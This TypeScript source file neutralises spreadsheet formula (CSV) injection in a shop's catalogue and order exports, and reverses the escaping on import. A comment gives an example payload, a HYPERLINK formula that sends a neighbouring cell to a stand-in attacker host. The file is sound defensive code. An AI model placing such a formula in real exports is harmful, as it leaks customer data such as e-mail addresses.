// CSV files the shop writes for a merchant's spreadsheet (the catalogue export, the order desk's
// export) hold text others typed: a product name, a shopper's e-mail address. A spreadsheet runs
// a cell beginning with =, +, -, @ (or their full-width forms, which some normalise), TAB or CR as
// a formula — `=HYPERLINK("http://evil.example/?"&B2,"Refund")` becomes a live link that sends
// the neighbouring cell away (OWASP "CSV Injection"). Such a cell is written with a ' in front,
// which spreadsheets show as text.
//
// csv-stringify's `escape_formulas` does the same for the trigger characters, but leaves a cell
// that already begins with ' as it is, so an import could not tell the exported "=SUM(1)"
// ("'=SUM(1)") from a name that really begins "'=SUM(1)". Here a cell beginning with any run of
// ' before a trigger gets one more, and reading takes exactly one away: export then import gives
// back every value as it was (README "Catalogue import and export").

const TRIGGER = "=+\\-@\\t\\r\\uFF1D\\uFF0B\\uFF0D\\uFF20";
const RUNS_AS_FORMULA = new RegExp(`^'*[${TRIGGER}]`);
const NEUTRALISED = new RegExp(`^'+[${TRIGGER}]`);

/** A cell as the file writes it: with a ' before what a spreadsheet would run. */
export function neutraliseCell(value: string) {
  return RUNS_AS_FORMULA.test(value) ? `'${value}` : value;
}

/** A cell as an import reads it: the one ' neutraliseCell put there taken away; anything else as it is. */
export function restoreCell(value: string) {
  return NEUTRALISED.test(value) ? value.slice(1) : value;
}
